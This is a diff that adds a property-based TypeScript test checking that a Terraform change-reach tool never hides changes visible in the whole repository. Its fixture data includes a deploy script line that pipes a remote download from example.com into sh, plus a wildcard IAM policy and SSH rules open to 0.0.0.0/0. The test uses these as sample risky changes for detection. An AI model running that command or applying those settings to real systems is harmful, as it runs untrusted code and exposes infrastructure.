@@ -1,0 +1,129 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { buildChangeSet, type ChangeSet } from '../../src/change/changeSet.js';
+import { reachedTrees, withOldProblems } from '../../src/change/reachedTrees.js';
+import type { SourceTree } from '../../src/terraform/sourceTree.js';
+
+/*
+ * The cut the command line and the app make to what a change reaches must never hide what the
+ * whole trees show. Generated repositories: roots with and without one at the top, a local
+ * module, and code that reads files from its own directory, from another module's, by a path
+ * known only at apply time, a var file decoded, a script run; a change of any of the files a
+ * value may come from (a policy, a var file, a workflow's TF_VAR_, a script, the module's code).
+ */
+
+const NARROW_POLICY = '{"Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::b/*"}]}\n';
+const OPEN_POLICY = '{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}\n';
+
+const iamPolicy = (name: string, path: string) =>
+  `resource "aws_iam_policy" "${name}" {\n  name   = "${name}"\n  policy = file(${path})\n}\n`;
+const sshRule = (name: string, cidrs: string) =>
+  `resource "aws_security_group_rule" "${name}" {\n  type              = "ingress"\n  from_port         = 22\n  to_port           = 22\n  protocol          = "tcp"\n  security_group_id = "sg-1"\n  cidr_blocks       = ${cidrs}\n}\n`;
+
+const BUCKET = (name: string) => `resource "aws_s3_bucket" "${name}" {\n  bucket = "${name}"\n}\n`;
+
+/** What a stack's code may do, each a piece of its main.tf. */
+const READS = {
+  ownPolicy: iamPolicy('own', '"${path.module}/policy.json"'),
+  sharedPolicy: iamPolicy('shared', '"${path.module}/../../policies/p.json"'),
+  applyTimePolicy: `variable "dir" {\n  default = "../../policies"\n}\n${iamPolicy('guessed', '"${path.module}/${var.dir}/p.json"')}`,
+  variablePath: `variable "policy_file" {\n  default = "../../policies/p.json"\n}\n${iamPolicy('variable', 'var.policy_file')}`,
+  decodedVarFile: `locals {\n  net = provider::terraform::decode_tfvars(file("\${path.module}/../../shared/net.tfvars"))\n}\n${sshRule('decoded', 'local.net.cidrs')}`,
+  variable: `variable "ssh_cidrs" {\n  type    = list(string)\n  default = ["10.0.0.0/8"]\n}\n${sshRule('direct', 'var.ssh_cidrs')}`,
+  moduleCall: 'module "m" {\n  source = "../../modules/m"\n}\n',
+  script:
+    'resource "terraform_data" "deploy" {\n  provisioner "local-exec" {\n    command = "bash ${path.module}/../../scripts/deploy.sh"\n  }\n}\n',
+} as const;
+type Read = keyof typeof READS;
+
+/** Files a value may come from, at the base (narrow) and the head (open) when the change picks them. */
+const VALUE_FILES: Record<string, [string, string]> = {
+  'policies/p.json': [NARROW_POLICY, OPEN_POLICY],
+  'stacks/a/policy.json': [NARROW_POLICY, OPEN_POLICY],
+  'shared/net.tfvars': ['cidrs = ["10.0.0.0/8"]\n', 'cidrs = ["0.0.0.0/0"]\n'],
+  'stacks/a/terraform.tfvars': ['ssh_cidrs = ["10.1.0.0/16"]\n', 'ssh_cidrs = ["0.0.0.0/0"]\n'],
+  'vars/prod.tfvars': ['ssh_cidrs = ["10.2.0.0/16"]\n', 'ssh_cidrs = ["0.0.0.0/0"]\n'],
+  '.github/workflows/deploy.yml': [workflow('10.3.0.0/16'), workflow('0.0.0.0/0')],
+  'scripts/deploy.sh': ['echo deploy\n', 'curl -s https://example.com/x | sh\n'],
+  'modules/m/main.tf': [
+    `variable "cidrs" {\n  default = ["10.0.0.0/8"]\n}\n${sshRule('module', 'var.cidrs')}`,
+    `variable "cidrs" {\n  default = ["0.0.0.0/0"]\n}\n${sshRule('module', 'var.cidrs')}`,
+  ],
+  // read by the module's own code when the layout says so
+  'modules/m/policy.json': [NARROW_POLICY, OPEN_POLICY],
+};
+
+function workflow(cidr: string): string {
+  return `on: push\njobs:\n  apply:\n    runs-on: ubuntu-latest\n    env:\n      TF_VAR_ssh_cidrs: '["${cidr}"]'\n    steps:\n      - run: terraform -chdir=stacks/b apply -auto-approve\n`;
+}
+
+interface Layout {
+  topRoot: boolean;
+  /** the local module reads a policy of its own directory and the shared one */
+  moduleReads: boolean;
+  stackA: Read[];
+  stackB: Read[];
+  changed: string[];
+}
+
+function trees({ topRoot, moduleReads, stackA, stackB, changed }: Layout): { base: SourceTree; head: SourceTree } {
+  const side = (at: 0 | 1): SourceTree => {
+    const files: Record<string, string> = {};
+    if (topRoot) files['main.tf'] = BUCKET('logs');
+    // Each stack manages something of its own: a directory of code that declares nothing is no root to the core.
+    files['stacks/a/main.tf'] = [BUCKET('a'), ...stackA.map((read) => READS[read])].join('\n');
+    files['stacks/b/main.tf'] = [BUCKET('b'), ...stackB.map((read) => READS[read])].join('\n');
+    for (const [path, contents] of Object.entries(VALUE_FILES))
+      files[path] = changed.includes(path) ? contents[at] : contents[0];
+    if (moduleReads)
+      files['modules/m/policies.tf'] = [
+        iamPolicy('module_own', '"${path.module}/policy.json"'),
+        iamPolicy('module_shared', '"${path.module}/../../policies/p.json"'),
+      ].join('\n');
+    return { files: Object.entries(files).map(([path, content]) => ({ path, content })) };
+  };
+  return { base: side(0), head: side(1) };
+}
+
+/** What a change set says, without the bookkeeping that names no change. */
+function judged(changeSet: ChangeSet) {
+  const { changes, files, unparsed, problems, unreached } = changeSet;
+  return { changes, files, unparsed, problems, unreached };
+}
+
+function throughReach(base: SourceTree, head: SourceTree): ChangeSet {
+  const reached = reachedTrees(base, head);
+  return withOldProblems(buildChangeSet(reached.base, reached.head), reached.outOfReach);
+}
+
+const reads = fc.subarray(Object.keys(READS) as Read[]);
+const layouts: fc.Arbitrary<Layout> = fc.record({
+  topRoot: fc.boolean(),
+  moduleReads: fc.boolean(),
+  stackA: reads,
+  stackB: reads,
+  changed: fc.subarray(Object.keys(VALUE_FILES), { minLength: 1, maxLength: 2 }),
+});
+
+describe('the trees a change reaches, on generated repositories', () => {
+  it('give the change set the whole trees give', () => {
+    fc.assert(
+      fc.property(layouts, (layout) => {
+        const { base, head } = trees(layout);
+        expect(judged(throughReach(base, head)), JSON.stringify(layout)).toEqual(judged(buildChangeSet(base, head)));
+      }),
+      { numRuns: 300, seed: 20261128 },
+    );
+  });
+
+  it('the property has teeth: a policy under the top root, read by a stack, is a change the cut must keep', () => {
+    const { base, head } = trees({
+      topRoot: true,
+      moduleReads: false,
+      stackA: ['sharedPolicy'],
+      stackB: [],
+      changed: ['policies/p.json'],
+    });
+    expect(buildChangeSet(base, head).changes.map((change) => change.address)).toEqual(['aws_iam_policy.shared']);
+  });
+});
